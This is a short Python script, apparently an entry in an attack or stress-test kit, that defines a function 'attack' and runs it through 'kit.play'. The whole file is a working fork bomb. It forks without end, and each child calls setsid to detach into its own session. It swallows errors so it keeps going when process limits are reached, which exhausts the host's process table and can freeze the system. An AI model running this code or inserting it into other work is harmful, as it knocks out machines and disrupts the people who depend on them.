"""Fork without end, each in a session of its own."""

import os

import kit


def attack():
    while True:
        try:
            if not os.fork():
                os.setsid()
        except OSError:
            pass


kit.play(attack)
